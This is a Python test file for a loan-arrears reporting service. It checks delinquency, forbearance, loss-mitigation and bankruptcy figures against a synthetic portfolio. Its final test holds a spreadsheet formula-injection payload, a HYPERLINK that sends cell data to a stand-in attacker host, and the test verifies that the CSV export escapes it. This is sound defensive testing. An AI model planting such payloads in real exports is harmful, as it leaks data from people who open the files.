"""Reports: figures from a portfolio with known counts, reproducible bytes, figures in the PDF."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, time
from typing import Any

import pytest
from pypdf import PdfReader
from sqlmodel import select

from arrears import audit, migrate
from arrears.db import Database
from arrears.embedded import EmbeddedPostgres
from arrears.reports import service
from arrears.reports.service import ReportParams, ReportRequestInvalid
from models.audit import AuditEvent
from models.enums import PolicyPack, ReportFormat, ReportKind
from models.reports import Report
from tests.factories import Portfolio

START, END = date(2025, 3, 1), date(2025, 3, 31)
ACTOR = audit.Actor("compliance-test", "compliance")


def at(day: date, hour: int = 12) -> datetime:
    return datetime.combine(day, time(hour), UTC)


def d(month: int, day: int) -> date:
    return date(2025, month, day)


@pytest.fixture(scope="module")
async def reports_db(postgres: EmbeddedPostgres) -> AsyncIterator[Database]:
    """A database of its own, so the portfolio's counts are exactly the ones built here."""
    url = postgres.ensure_database(f"arrears_reports_{uuid.uuid4().hex[:8]}")
    migrate.upgrade(url)
    db = Database(url)
    async with db.session() as session:
        await build_portfolio(Portfolio(session))
    yield db
    await db.dispose()


async def build_portfolio(p: Portfolio) -> None:
    """March 2025. US mortgages in every bucket; NL loans for the F18/F19 split."""
    # current: paid up, and 10 days late (11 at the month's end)
    await p.loan(dpd=0, as_of=d(3, 31))
    await p.loan(dpd=10, as_of=d(3, 30), balance="50000.00")
    # 30-59 x2: one rolled in from current (10 days on Feb 28)
    rolled = await p.loan(dpd=10, as_of=d(2, 28))
    await p.snapshot(rolled, dpd=41, as_of=d(3, 31))
    await p.loan(dpd=45, as_of=d(3, 31))
    # 60-89: 35 days late on Feb 28, 66 by the month's end (no newer snapshot: it ages)
    await p.loan(dpd=35, as_of=d(2, 28))
    # 90+ x2
    await p.loan(dpd=120, as_of=d(3, 31), product="heloc")
    await p.loan(dpd=95, as_of=d(3, 31))
    # foreclosure: enforcement started in March, referral and first filing taken
    fc = await p.loan(dpd=150, as_of=d(2, 28))
    fc_case = await p.case(fc, opened=at(d(1, 2)), stage="early", dpd=90)
    await p.stage(fc_case, "enforcement", at(d(3, 10)), dpd=160)
    await p.event(fc_case, "enforcement.done", at(d(3, 10)), key="foreclosure.attorney_referral")
    await p.event(fc_case, "enforcement.done", at(d(3, 25)), key="foreclosure.first_filing")
    # exited: foreclosed on March 20 (the sale, after an enforcement stage entered in 2024)
    gone = await p.loan(dpd=300, as_of=d(2, 28))
    gone_case = await p.case(gone, opened=at(d(1, 1)), stage="enforcement", dpd=240)
    await p.event(gone_case, "enforcement.done", at(d(3, 20)), key="foreclosure.sale_held")
    await p.close(gone_case, "foreclosed", at(d(3, 20)))
    # cured in March: 40 days late on Feb 28, a payment brings arrears to zero on March 15
    cured = await p.loan(dpd=40, as_of=d(2, 28))
    cured_case = await p.case(cured, opened=at(d(2, 1)), dpd=12)
    await p.event(cured_case, "payment.applied", at(d(3, 15)), arrears_after="0.00")
    await p.close(cured_case, "cured", at(d(3, 15)))

    # loss mitigation: two applications (one acknowledged late), three evaluations, one appeal
    lm1 = await p.case(await p.loan(dpd=60, as_of=d(3, 31), product="lm"), opened=at(d(2, 1)), dpd=30)
    await p.stage(lm1, "loss_mitigation", at(d(3, 3)))
    await p.event(lm1, "message.done", at(d(3, 7)), key="loss_mitigation.1.acknowledgment", due="2025-03-10")
    await p.task(lm1, "loss_mitigation.1.evaluation", "evaluation", at(d(3, 7)), d(4, 2))
    await p.decide(lm1, "loss_mitigation.1.evaluation", at(d(3, 20)))
    lm2 = await p.case(await p.loan(dpd=60, as_of=d(3, 31), product="lm"), opened=at(d(2, 1)), dpd=30)
    await p.stage(lm2, "loss_mitigation", at(d(3, 3)))
    await p.event(lm2, "message.done", at(d(3, 12)), key="loss_mitigation.1.acknowledgment", due="2025-03-10")
    await p.task(lm2, "loss_mitigation.1.evaluation", "evaluation", at(d(3, 2)), d(3, 20))
    await p.decide(lm2, "loss_mitigation.1.evaluation", at(d(3, 25)))
    await p.task(lm2, "loss_mitigation.1.appeal_review", "appeal_review", at(d(3, 5)), d(3, 25))
    lm3 = await p.case(await p.loan(dpd=60, as_of=d(3, 31), product="lm"), opened=at(d(2, 1)), dpd=30)
    await p.task(lm3, "loss_mitigation.1.evaluation", "evaluation", at(d(3, 1)), d(3, 31))

    # bankruptcy: a chapter 13 stay filed in March; a chapter 7 stay lifted by relief in March
    s13 = await p.case(await p.loan(dpd=50, as_of=d(3, 31), product="bk"), opened=at(d(2, 1)), dpd=20)
    await p.stage(s13, "bankruptcy_stay", at(d(3, 5)), chapter="13", court_case="25-10001")
    s7 = await p.case(await p.loan(dpd=50, as_of=d(3, 31), product="bk"), opened=at(d(1, 5)), dpd=20)
    await p.stage(s7, "bankruptcy_stay", at(d(2, 10)), chapter="7", court_case="25-20002")
    await p.event(s7, "bankruptcy.done", at(d(3, 12)), key="bankruptcy.25-20002.relief")
    await p.stage(s7, "early", at(d(3, 12)))

    # NL: defaulted at 95 days; defaulted at 20 days; forborne while performing; forborne while
    # non-performing (still in its cure year); current
    nl = "nl_consumer"
    n1 = await p.case(await p.loan(nl, dpd=95, as_of=d(3, 31), balance="8000.00"), opened=at(d(1, 2)))
    await p.event(n1, "eba.done", at(d(3, 2)), key="eba.default")
    n2 = await p.case(await p.loan(nl, dpd=20, as_of=d(3, 31), balance="6000.00"), opened=at(d(1, 2)))
    await p.event(n2, "eba.done", at(d(2, 2)), key="eba.default")
    n3 = await p.case(await p.loan(nl, dpd=0, as_of=d(3, 31), balance="5000.00"), opened=at(d(1, 2)))
    await p.stage(n3, "forbearance", at(d(2, 10)), dpd=40)
    n4 = await p.case(await p.loan(nl, dpd=10, as_of=d(3, 31), balance="4000.00"), opened=at(d(1, 2)))
    await p.stage(n4, "forbearance", at(d(1, 15)), dpd=100)
    await p.loan(nl, dpd=0, as_of=d(3, 31), balance="3000.00")


def table(data: dict[str, Any], name: str) -> list[dict[str, Any]]:
    [t] = [t for t in data["tables"] if t["name"] == name]
    return [dict(zip(t["columns"], row, strict=True)) for row in t["rows"]]


async def generate(
    db: Database, kind: ReportKind, pack: PolicyPack | None = None
) -> tuple[Report, dict[str, bytes]]:
    report = await service.generate(
        db, ReportParams(kind, START, END, pack), actor=ACTOR, trigger="on_demand", servicer="Test Servicing"
    )
    async with db.session() as session:
        files = {f.format.value: f.content for f in await service.files_of(session, report.id)}
    return report, files


async def test_delinquency_buckets_foreclosure_and_roll_rates(reports_db: Database) -> None:
    report, files = await generate(reports_db, ReportKind.DELINQUENCY, PolicyPack.US_MORTGAGE)
    data = json.loads(files["json"])
    buckets = {(r["product"], r["bucket"]): (r["loans"], r["balance"]) for r in table(data, "buckets")}
    assert buckets[("mortgage_30y", "current")] == (3, "250000.00")  # paid up, 11 days, cured
    assert buckets[("mortgage_30y", "30-59")] == (2, "200000.00")
    assert buckets[("mortgage_30y", "60-89")] == (1, "100000.00")  # 35 on Feb 28, aged to 66
    assert buckets[("mortgage_30y", "90+")] == (1, "100000.00")
    assert buckets[("heloc", "90+")] == (1, "100000.00")
    assert buckets[("mortgage_30y", "foreclosure")] == (1, "100000.00")
    assert buckets[("lm", "60-89")] == (3, "300000.00") and buckets[("bk", "30-59")] == (2, "200000.00")
    assert [r for r in table(data, "foreclosure")] == [{"pack": "us_mortgage", "starts": 1, "inventory": 1}]
    rolls = {r["from"]: r for r in table(data, "roll_rates")}
    # Feb 28: current 1 (10 days), 30-59 2 (35 and 40 days), 90+ 1 (150 days), foreclosure 1
    assert rolls["current"]["loans"] == 1 and rolls["current"]["to_30-59"] == 1
    assert rolls["current"]["roll_rate"] == "1.0000"
    assert rolls["30-59"]["loans"] == 2 and rolls["30-59"]["to_current"] == 1
    assert rolls["30-59"]["to_60-89"] == 1 and rolls["30-59"]["cure_rate"] == "0.5000"
    assert rolls["30-59"]["roll_rate"] == "0.5000"
    assert rolls["90+"]["loans"] == 1 and rolls["90+"]["to_foreclosure"] == 1
    assert rolls["foreclosure"]["exited"] == 1  # the sale on March 20
    assert rolls["new"]["loans"] == 10  # first reported in March
    assert report.row_counts == {"buckets": 20, "foreclosure": 1, "roll_rates": 6}


async def test_non_performing_and_forborne_in_the_f18_f19_shape(reports_db: Database) -> None:
    _, files = await generate(reports_db, ReportKind.NON_PERFORMING_FORBORNE, PolicyPack.NL_CONSUMER)
    data = json.loads(files["json"])
    [exposures, amounts] = table(data, "f18")
    assert exposures["performing_le_30"] == 2  # forborne performing (0 days), current
    assert exposures["np_unlikely_to_pay"] == 2  # defaulted at 20 days; forborne NP in its cure year
    assert exposures["np_91_180"] == 1 and exposures["total"] == 5
    assert amounts["performing_le_30"] == "8000.00" and amounts["np_unlikely_to_pay"] == "10000.00"
    [forborne, forborne_amounts] = table(data, "f19")
    assert forborne["forborne"] == 2 and forborne["term_modification"] == 2 and forborne["refinancing"] == 0
    assert forborne["of_which_under_probation"] == 1 and forborne["of_which_non_performing"] == 1
    assert forborne_amounts["of_which_under_probation"] == "5000.00"


async def test_us_figures_split_performing_and_non_performing_by_days_past_due(reports_db: Database) -> None:
    _, files = await generate(reports_db, ReportKind.NON_PERFORMING_FORBORNE, PolicyPack.US_MORTGAGE)
    [exposures, _] = table(json.loads(files["json"]), "f18")
    # 0, 11, 11(cured: 0) | 41, 45, 50 (ch.7 relieved) | 60 x3, 66 | UTP: ch.13 stay at 50 |
    # 95, 120, 181 (foreclosure: 150 on Feb 28 + 31)
    assert exposures["performing_le_30"] == 3
    assert exposures["performing_31_60"] == 6
    assert exposures["performing_61_90"] == 1
    assert exposures["np_unlikely_to_pay"] == 1
    assert exposures["np_91_180"] == 2 and exposures["np_181_365"] == 1
    assert exposures["total"] == 14


async def test_loss_mitigation_timeliness_lists_the_late_cases(reports_db: Database) -> None:
    _, files = await generate(reports_db, ReportKind.LOSS_MITIGATION, PolicyPack.US_MORTGAGE)
    data = json.loads(files["json"])
    rows = {r["measure"]: r for r in table(data, "timeliness")}
    assert rows["applications_received"]["count"] == 2
    ack = rows["acknowledged_within_5_business_days"]
    assert (ack["count"], ack["on_time"], ack["late"], ack["share_on_time"]) == (2, 1, 1, "0.5000")
    ev = rows["evaluated_within_30_days"]
    assert (ev["count"], ev["on_time"], ev["late"], ev["pending"]) == (3, 1, 1, 1)
    ap = rows["appeal_decided_within_30_days"]
    assert (ap["count"], ap["on_time"], ap["late"]) == (1, 0, 1)  # open past its day
    late = table(data, "late_cases")
    assert {(r["measure"], r["due"], r["done_on"]) for r in late} == {
        ("acknowledged_within_5_business_days", "2025-03-10", "2025-03-12"),
        ("evaluated_within_30_days", "2025-03-20", "2025-03-25"),
        ("appeal_decided_within_30_days", "2025-03-25", ""),
    }
    # all three are the second application's case, listed by ID
    [case_id] = {r["case_id"] for r in late}
    assert uuid.UUID(case_id)


async def test_bankruptcy_and_enforcement_inventory(reports_db: Database) -> None:
    _, files = await generate(reports_db, ReportKind.BANKRUPTCY_ENFORCEMENT, PolicyPack.US_MORTGAGE)
    data = json.loads(files["json"])
    stays = {r["chapter"]: r for r in table(data, "stays")}
    assert stays["13"]["open_at_end"] == 1 and stays["13"]["entered_in_period"] == 1
    assert stays["7"]["open_at_end"] == 0 and stays["7"]["entered_in_period"] == 0
    assert table(data, "stay_resolutions") == [
        {"pack": "us_mortgage", "relief": 1, "dismissal": 0, "discharge": 0}
    ]
    steps = {r["step"]: r["count"] for r in table(data, "enforcement_steps")}
    assert steps == {
        "foreclosure.attorney_referral": 1,
        "foreclosure.first_filing": 1,
        "foreclosure.sale_held": 1,
        "in_enforcement_at_end": 1,
    }


async def test_a_report_is_stored_hashed_and_audited_without_personal_data(reports_db: Database) -> None:
    report, files = await generate(reports_db, ReportKind.DELINQUENCY)
    async with reports_db.session() as session:
        stored = await service.files_of(session, report.id)
        [event] = [
            e
            for e in (
                await session.exec(select(AuditEvent).where(AuditEvent.action == "report.generated"))
            ).all()
            if e.payload["report_id"] == str(report.id)
        ]
    import hashlib

    assert {f.format.value: f.sha256 for f in stored} == {
        k: hashlib.sha256(v).hexdigest() for k, v in files.items()
    }
    assert event.payload["sha256"] == {f.format.value: f.sha256 for f in stored}
    assert event.payload["row_counts"] == report.row_counts and event.actor == "compliance-test"
    for content in (files["csv"], files["json"]):
        assert b"Report Borrower" not in content and b"RL-" not in content  # IDs only, no names
    # CSV: each table under its own header, the first column naming it
    lines = list(csv.reader(io.StringIO(files["csv"].decode())))
    assert lines[0][:3] == ["table", "pack", "product"] and lines[1][0] == "buckets"


async def test_the_pdf_carries_the_figures(reports_db: Database) -> None:
    _, files = await generate(reports_db, ReportKind.LOSS_MITIGATION, PolicyPack.US_MORTGAGE)
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(files["pdf"])).pages)
    assert "Loss-mitigation timeliness" in text and "2025-03-01 to 2025-03-31" in text
    assert "acknowledged_within_5_business_days" in text and "0.5000" in text
    assert "2025-03-12" in text  # the late acknowledgment's day


async def test_rerunning_a_past_period_after_new_activity_gives_the_same_bytes(reports_db: Database) -> None:
    before = {kind: (await generate(reports_db, kind))[1] for kind in ReportKind}
    async with reports_db.session() as session:
        p = Portfolio(session)
        # after the period: payments, stage changes, a closure, new loans, decisions, and a late
        # correction of a March snapshot that arrived in April
        for case_id in (await session.exec(select(AuditEvent.case_id).distinct())).all():
            if case_id is not None:
                await p.stage(case_id, "enforcement", at(d(4, 3)), dpd=200)
                await p.event(case_id, "payment.applied", at(d(4, 4)), arrears_after="0.00")
                await p.decide(case_id, "loss_mitigation.1.appeal_review", at(d(4, 5)))
        late = await p.loan(dpd=200, as_of=d(4, 2))
        await p.snapshot(late, dpd=170, as_of=d(3, 3), at=at(d(4, 6)))
        await p.loan(dpd=30, as_of=d(3, 31), received_at=at(d(4, 7)))
    after = {kind: (await generate(reports_db, kind))[1] for kind in ReportKind}
    for kind in ReportKind:
        for format in ReportFormat:
            assert after[kind][format.value] == before[kind][format.value], (kind, format)
    # and a period that includes April does see the new activity
    april = await service.generate(
        reports_db,
        ReportParams(ReportKind.DELINQUENCY, d(4, 1), d(4, 30)),
        actor=ACTOR,
        trigger="on_demand",
        servicer="Test Servicing",
    )
    async with reports_db.session() as session:
        april_file = await service.file_content(session, april.id, ReportFormat.JSON)
    assert april_file is not None
    april_json = json.loads(april_file.content)
    starts = {r["pack"]: r["starts"] for r in table(april_json, "foreclosure")}
    assert starts["us_mortgage"] > 1 and starts["nl_consumer"] > 1


@pytest.mark.parametrize(
    ("start", "end", "reason"),
    [
        (date(2025, 3, 31), date(2025, 3, 1), "before period_start"),
        (date(2025, 3, 1), date(2999, 1, 1), "the period must be over"),
        (date(2023, 1, 1), date(2025, 1, 1), "at most 366 days"),
    ],
)
async def test_a_bad_period_is_refused_and_nothing_is_stored(
    reports_db: Database, start: date, end: date, reason: str
) -> None:
    async with reports_db.session() as session:
        count = len((await session.exec(select(Report))).all())
    with pytest.raises(ReportRequestInvalid, match=reason):
        await service.generate(
            reports_db,
            ReportParams(ReportKind.DELINQUENCY, start, end),
            actor=ACTOR,
            trigger="on_demand",
            servicer="x",
        )
    async with reports_db.session() as session:
        assert len((await session.exec(select(Report))).all()) == count


async def test_a_scheduled_run_is_stored_once_per_key(reports_db: Database) -> None:
    params = ReportParams(ReportKind.BANKRUPTCY_ENFORCEMENT, START, END)
    first = await service.generate(
        reports_db,
        params,
        actor=ACTOR,
        trigger="schedule",
        servicer="x",
        idempotency_key="schedule:test:once",
    )
    again = await service.generate(
        reports_db,
        params,
        actor=ACTOR,
        trigger="schedule",
        servicer="x",
        idempotency_key="schedule:test:once",
    )
    assert again.id == first.id


FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"click")'


@pytest.fixture(scope="module")
async def hostile_db(postgres: EmbeddedPostgres) -> AsyncIterator[Database]:
    """A portfolio of its own whose loan products would run as formulas in a spreadsheet."""
    url = postgres.ensure_database(f"arrears_reports_{uuid.uuid4().hex[:8]}")
    migrate.upgrade(url)
    db = Database(url)
    async with db.session() as session:
        p = Portfolio(session)
        for product in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tlead", "\rlead", "-12.50"):
            await p.loan(dpd=45, as_of=d(3, 31), product=product)
    yield db
    await db.dispose()


async def test_the_csv_report_carries_no_formula_and_keeps_its_numbers(hostile_db: Database) -> None:
    """Text that a spreadsheet would run is exported with a leading quote; a plain number, even a
    negative one, stays a number. The JSON keeps every value as it is."""
    _, files = await generate(hostile_db, ReportKind.DELINQUENCY, PolicyPack.US_MORTGAGE)
    rows = list(csv.reader(io.StringIO(files["csv"].decode(), newline="")))
    header = rows[0]
    products = {r[header.index("product")] for r in rows[1:] if r and r[0] == "buckets"}
    assert products == {"'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tlead", "'\rlead", "-12.50"}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for cell in row:
            assert not cell.startswith(dangerous) or cell == "-12.50", cell
    assert {r["product"] for r in table(json.loads(files["json"]), "buckets")} >= {FORMULA, "-12.50"}
